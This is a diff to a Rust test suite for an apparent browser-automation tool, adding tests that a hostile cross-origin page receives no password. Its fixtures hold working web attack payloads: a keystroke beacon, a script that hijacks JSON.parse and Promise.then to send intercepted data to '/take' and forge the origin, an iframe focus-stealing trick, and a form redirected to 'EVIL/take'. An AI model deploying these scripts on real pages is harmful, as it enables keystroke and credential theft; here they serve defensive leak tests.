@@ -29,6 +29,9 @@ const LONGEST: Duration = Duration::from_secs(75);
 const FORM: &str = r#"<form method="post" FORM><label>Password <input type="password" name="password" id="password"></label>
 <button id="go" BUTTON>Sign in</button></form>"#;
 
+/// The other origin's page tells of every key that comes to it.
+const KEYS: &str = "<script>addEventListener('keydown', () => navigator.sendBeacon('/key'))</script>";
+
 const SIGN_IN: &str = r#"{ fill = "Password", with = "${password}", timeout = "4s" },
   { click = { button = "Sign in" }, timeout = "4s" }, { expect = { heading = "Welcome" }, timeout = "4s" }"#;
 
@@ -40,11 +43,15 @@ struct Case {
     /// What comes between opening it and signing in.
     first: &'static str,
     sign_in: &'static str,
+    /// What the other origin's page holds beside a form to sign in.
+    lure: &'static str,
+    /// The other origin is one of the flow's.
+    listed: bool,
 }
 
 impl Case {
     fn page(name: &'static str, page: impl Into<String>) -> Self {
-        Self { name, page: page.into(), first: "", sign_in: SIGN_IN }
+        Self { name, page: page.into(), first: "", sign_in: SIGN_IN, lure: "", listed: false }
     }
 
     fn form(name: &'static str, form: &str, button: &str, script: &str) -> Self {
@@ -59,12 +66,21 @@ impl Case {
     fn sign_in(self, sign_in: &'static str) -> Self {
         Self { sign_in, ..self }
     }
+
+    fn lure(self, lure: &'static str) -> Self {
+        Self { lure, ..self }
+    }
+
+    fn listed(self) -> Self {
+        Self { listed: true, ..self }
+    }
 }
 
 /// Runs it, and sees that the other origin and all that is left got nothing.
 fn play(case: &Case, browser: BrowserName, verdicts: &[Verdict]) -> Ended {
     let trial = Trial::new();
-    let stranger = Stranger::start(&FORM.replace("FORM", "").replace("BUTTON", ""));
+    let form = FORM.replace("FORM", "").replace("BUTTON", "");
+    let stranger = Stranger::start(&format!("{form}{KEYS}{}", case.lure));
     let page = case.page.replace("EVIL", &stranger.origin()).replace("LOOKALIKE", &stranger.like("localhost"));
     let page = format!("<!doctype html><html lang=en><meta charset=utf-8><title>Portal</title>{page}");
     let (away, near) = (stranger.origin(), stranger.like("localhost"));
@@ -87,6 +103,8 @@ fn play(case: &Case, browser: BrowserName, verdicts: &[Verdict]) -> Ended {
          [inputs]\npassword = {{ secret = true }}\n[task.try]\nstages = [\"try\"]\n\
          [[stage]]\nid = \"try\"\ntitle = \"Try\"\nsteps = [ {first} {sign_in} ]\n"
     );
+    let listed = format!("language = \"en\"\norigins = [\"{}\"]\n", stranger.origin());
+    let text = if case.listed { text.replace("language = \"en\"\n", &listed) } else { text };
     let text = if first.contains("open =") { text } else { text.replace("steps = [", "steps = [ { open = \"/\" },") };
     fs::write(&flow, text).expect("a flow");
     let account = trial.account(MiaFirma, "u01");
@@ -99,6 +117,9 @@ fn play(case: &Case, browser: BrowserName, verdicts: &[Verdict]) -> Ended {
     let secrets = Secrets::default().with("the password", CANARY);
     let got = stranger.received();
     assert!(secrets.hits(&got).is_empty(), "{} in {browser:?}: {}", case.name, String::from_utf8_lossy(&got));
+    let keys = String::from_utf8_lossy(&got).matches("POST /key ").count();
+    // Chromium moves the focus into another process in its own time: a key may be under way.
+    assert!(keys == 0 || case.listed || browser == Chromium, "{} in {browser:?}: {keys} keys", case.name);
     assert!(verdicts.contains(&record.verdict), "{} in {browser:?}: {:?}\n{ended}", case.name, record.verdict);
     assert_eq!(ended.status.code(), Some(record.verdict.exit_code().into()), "{}", case.name);
     ended.is_clean();
@@ -152,6 +173,13 @@ fn a_page_of_another_origin_gets_none() {
         .first(link),
     ];
     play_all(&cases, 1, &[Changed, Failed, Unavailable]);
+}
+
+#[test]
+fn a_page_of_another_origin_gets_no_file() {
+    let lure = r#"<label>Document <input type="file"></label>"#;
+    let given = r#"{ upload = "Document", with = "hostile.toml", timeout = "4s" }"#;
+    play_all(&[Case::page("a file", "").first(r#"{ open = "/away" },"#).sign_in(given).lure(lure)], 1, &[Changed]);
 }
 
 #[test]
@@ -220,6 +248,57 @@ fn a_form_that_is_sent_by_the_page_gets_none() {
         .sign_in(typed),
     ];
     play_all(&cases, 0, &[Changed, Done]);
+    // The first key is already one of the secret's.
+    let focus = Case::form(
+        "a frame that takes the focus as the field gets it",
+        r#"action="/sent""#,
+        "",
+        "const frame = document.createElement('iframe'); frame.src = 'EVIL/login'; document.body.append(frame); \
+         frame.onload = () => { document.querySelector('h1').textContent = 'Ready'; }; \
+         password.addEventListener('focus', () => frame.focus());",
+    );
+    let focus = focus.first(r#"{ open = "/" }, { expect = { heading = "Ready" } },"#).sign_in(typed);
+    for browser in [Firefox, Chromium] {
+        play(&focus, browser, &[Changed]);
+    }
+}
+
+#[test]
+fn a_frame_that_listens_gets_none() {
+    let page = r#"<iframe name="login" src="EVIL/login" width="600" height="300"></iframe>"#;
+    let fill =
+        r#"{ fill = { field = "Password", within = { frame = "login" } }, with = "${password}", timeout = "4s" }"#;
+    let typed =
+        r#"{ type = { field = "Password", within = { frame = "login" } }, with = "${password}", timeout = "4s" }"#;
+    // Whatever the page script reads in that world, the frame hears of it.
+    let lure = "<script>const tell = (body) => fetch('/take', { method: 'POST', body }); \
+        const heard = { apply(target, self, given) { if (typeof given[0] === 'string') tell(given[0]); return Reflect.apply(target, self, given); } }; \
+        JSON.parse = new Proxy(JSON.parse, heard); \
+        const forged = (value) => value === location.origin && location.ancestorOrigins ? location.ancestorOrigins[0] : value; \
+        Promise.prototype.then = new Proxy(Promise.prototype.then, { apply: (target, self, [done, ...more]) => Reflect.apply(target, self, \
+        [typeof done === 'function' ? (value) => done(forged(value)) : done, ...more]) });</script>";
+    for browser in [Firefox, Chromium] {
+        play(&Case::page("a frame that listens", page).sign_in(fill).lure(lure), browser, &[Changed]);
+        play(&Case::page("a frame that listens to keys", page).sign_in(typed).lure(lure), browser, &[Changed]);
+        // One of the flow's own gets it: nothing is sent from there.
+        play(&Case::page("a listed frame", page).sign_in(fill).listed(), browser, &[Done]);
+    }
+    play(&Case::page("a listed frame, key by key", page).sign_in(typed).listed(), Firefox, &[Done]);
+}
+
+#[test]
+fn a_second_page_in_a_frame_gets_none() {
+    let page = "<script>if (location.pathname === '/') document.write('<iframe src=/one width=600 height=300></iframe>'); \
+        else document.write(`<h1>${location.pathname === '/one' ? 'First' : 'Again'}</h1><form method=post action=${location.pathname === '/one' ? '/two' : '/sent'}> \
+        <label>Password <input type=password name=password></label><button>Sign in</button></form>`); \
+        if (location.pathname === '/two') document.forms[0].addEventListener('submit', (event) => { event.target.action = 'EVIL/take'; });</script>";
+    let twice = r#"{ fill = "Password", with = "${password}", timeout = "4s" }, { click = { button = "Sign in" }, timeout = "4s" },
+        { expect = { heading = "Again" }, timeout = "4s" },
+        { fill = "Password", with = "${password}", timeout = "4s" }, { click = { button = "Sign in" }, timeout = "4s" },
+        { expect = { heading = "Welcome" }, timeout = "4s" }"#;
+    for browser in [Firefox, Chromium] {
+        play(&Case::page("a frame's second page", page).sign_in(twice), browser, &[Changed]);
+    }
 }
 
 #[test]
